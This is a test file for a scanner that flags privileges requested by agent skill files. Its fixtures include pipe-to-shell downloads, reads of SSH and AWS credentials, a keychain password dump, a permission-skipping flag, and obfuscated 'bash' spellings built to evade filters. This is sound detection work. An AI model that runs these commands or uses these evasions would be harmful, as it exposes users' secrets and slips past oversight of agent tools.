import { describe, expect, it } from 'vitest';
import { type PrivilegeKind, privilegesOf } from '../../../../../src/domains/submission/core/judgement/privilege.js';

function kindsIn(text: string, path = 'SKILL.md', isExecutable = false): PrivilegeKind[] {
  return privilegesOf([{ path, text, isExecutable }]).map(({ kind }) => kind);
}

const FOUND: Readonly<Record<Exclude<PrivilegeKind, 'scripts'>, readonly string[]>> = {
  shell: [
    'allowed-tools: Read, Bash',
    'allowed-tools: "*"',
    'allowed_tools: [Read, shell]',
    'tools: Bash(*)',
    '  - Bash',
    'claude --dangerously-skip-permissions',
    'subprocess.run(line, shell=True)',
    'os.system(line)',
    "import { exec } from 'node:child_process'",
    'eval "$line"',
    'bash -c "$line"',
    'curl -s https://example.com/x | sh',
    'wget -qO- x | sudo bash',
    'curl x | python3 -',
    'iex (irm https://example.com)',
    'ｂａｓｈ -c "$line"',
    'ba\u200bsh -c "$line"',
  ],
  outsideWrites: [
    'echo x > ~/.profile',
    'echo x >>$HOME/.zshrc',
    'cat x | tee /etc/hosts',
    'cp -r skill ~/.claude/skills/',
    'mkdir -p "${HOME}/.config/x"',
    'ln -s a /usr/local/bin/a',
    'mv a ../../elsewhere',
    'curl -fsSL x -o /usr/local/bin/x',
    "open('/etc/passwd', 'w')",
    'fs.writeFileSync("~/x", y)',
    'npm install -g thing',
    'yarn global add thing',
    'crontab -l',
    'systemctl enable x',
    'git config --global user.name x',
    'copy-item x; echo y > $env:APPDATA\\x',
  ],
  secrets: [
    'process.env.HOME',
    'os.environ["X"]',
    'os.getenv("X")',
    'printenv',
    'env | sort',
    'Authorization: Bearer $OPENAI_API_KEY',
    'echo ${DB_PASSWORD}',
    'cat ~/.ssh/config',
    'cat $HOME/.aws/credentials',
    'look for id_rsa',
    'load `.env` first',
    'cp .env.local x',
    'security find-generic-password -w',
  ],
  elevation: [
    'sudo apt install x',
    'doas x',
    'chmod +x run',
    'chmod 777 .',
    'chown root x',
    'os.chmod(path, 0o755)',
    'Set-ExecutionPolicy Bypass',
    'docker run --privileged x',
    '% ｓｕｄｏ rm',
  ],
};

describe('privileges', () => {
  const rows = Object.entries(FOUND).flatMap(([kind, lines]) => lines.map((line) => [kind, line] as const));

  it.each(rows)('see %s in %j', (kind, line) => {
    expect(kindsIn(`# Title\n\n${line}\n`)).toContain(kind);
  });

  it.each([
    'allowed-tools: Read, Grep, Bash(git log:*)',
    'A snail has a shell; a tree bash-fully has not.',
    'Write the notes to notes.md: echo x > notes.md',
    'echo x > /tmp/scratch',
    'cp a.txt b.txt',
    'if (a > ~b) return;',
    'Be kind to the environment, and keep tokens of affection.',
    'The evaluation is a key part of the process.',
    'Explain sudoku.',
    'Pass the value => /home/page as the route.',
    '| a table | of shells |',
    'npm install',
    'git config user.name x',
    'the environment of the .environment file',
  ])('see none in %j', (line) => {
    expect(kindsIn(line)).toEqual([]);
  });

  it.each([
    'allowed-tools: Bash',
    '"allowed-tools": Bash',
    "'allowed-tools': [Read, Bash]",
    '"allowed\\x2dtools": "\\x42ash"',
    'allowed-tools: >-\n  Read, Bash',
    'allowed-tools: |\n  Read\n  Bash',
    'allowed-tools: [Read,\n  Bash]',
    'allowed-tools:\n  - [Read, [Bash]]',
    '{name: x, allowed-tools: Bash}',
    '{name: x,\n allowed-tools:\n [Read, "*"]}',
    'mine: &t Read, Bash\nallowed-tools: *t',
    'mine: &t\n  allowed-tools: Read, Bash\n<<: *t',
    'mine: &t {more: *t, allowed-tools:\n [Bash]}',
    '? allowed-tools\n: Bash',
    'allowedTools:\n  Bash',
    'tools:\n  bash: true',
    'permissions:\n  allow:\n    - Read, Bash',
    'permissions:\n  allow: Bash(*)',
    'metadata:\n  tools: [Read,\n   shell]',
    'аllowed-tools:\n  Read, Bаsh',
  ])('see a shell in the front matter %j', (front) => {
    expect(kindsIn(`---\n${front}\n---\nSay hello.\n`)).toEqual(['shell']);
    expect(kindsIn(`\uFEFF---\r\n${front.replaceAll('\n', '\r\n')}\r\n---\r\nSay hello.\r\n`)).toEqual(['shell']);
  });

  it.each([
    'name: "x\nallowed-tools: >-\n  Read, Bash',
    'name: [x\nmine: &t Bash\nallowed-tools: *t',
    'name: x\nname: x\n"allowed-tools": Bash',
    'name: x\nname: x\n"allowed\\x2dtools": "\\x42ash"',
    '? allowed-tools\n: !!binary QmFzaA==',
    `{name: x, allowed-tools: Bash, notes: ${'x'.repeat(20_000)}}`,
    `{allowed-tools: ${'['.repeat(50)}Bash${']'.repeat(50)}}`,
    `a: &a [x]\nb: [${'*a, '.repeat(20)}]\nallowed-tools:\n  [Bash]`,
  ])('see a shell in front matter that no reader takes: %j', (front) => {
    expect(kindsIn(`---\n${front}\n---\nSay hello.\n`)).toEqual(['shell']);
    expect(kindsIn(`---\n${front}\n`)).toEqual(['shell']);
    expect(kindsIn(`---yaml\n${front}\n---\n`)).toEqual(['shell']);
    expect(kindsIn(`\n---\n${front}\n---\n`)).toEqual(['shell']);
  });

  it.each([
    'name: x\ndescription: Writes a bash script.',
    'allowed-tools: [Read,\n  "Bash(git log:*)"]',
    '{name: x, allowed-tools: "Bash(git log:*)"}',
    'tools:\n  bash: false\n  read: true',
    'permissions:\n  deny:\n    - Read, Bash',
    'description: It is: not YAML, and speaks of a shell.',
    'mine: &t\n  - Read\n  - *t\nallowed-tools:\n  *t',
  ])('see no shell in the front matter %j', (front) => {
    expect(kindsIn(`---\n${front}\n---\nSay hello.\n`)).toEqual([]);
  });

  it('name the line of the front matter that grants a shell', () => {
    const text = '---\nname: x\nallowed-tools: >-\n  Read, Bash\n---\nSay hello.\n';

    expect(privilegesOf([{ path: 'SKILL.md', text, isExecutable: false }])).toEqual([
      { kind: 'shell', file: 'SKILL.md', line: 3, text: 'allowed-tools: >-' },
    ]);
  });

  it.each([
    ['run.sh', '', false],
    ['lib/tool.py', '', false],
    ['Tool.PS1', '', false],
    ['bin/tool', 'text', true],
    ['bin/tool', '#!/usr/bin/env node', false],
    ['notes.md', '\uFEFF#!/bin/sh', false],
  ])('see a script in %s (%j, executable: %o)', (path, text, isExecutable) => {
    expect(kindsIn(text, path, isExecutable)).toEqual(['scripts']);
  });

  it.each(['notes.md', 'data.json', 'style.css', 'a.py.txt'])('see no script in %s', (path) => {
    expect(kindsIn('x', path)).toEqual([]);
  });

  it('name the first place of each kind', () => {
    const files = [
      { path: 'SKILL.md', text: 'One.\n  sudo a\nsudo b', isExecutable: false },
      { path: 'more.md', text: 'sudo c\nprintenv', isExecutable: false },
    ];

    expect(privilegesOf(files)).toEqual([
      { kind: 'secrets', file: 'more.md', line: 2, text: 'printenv' },
      { kind: 'elevation', file: 'SKILL.md', line: 2, text: 'sudo a' },
    ]);
  });
});
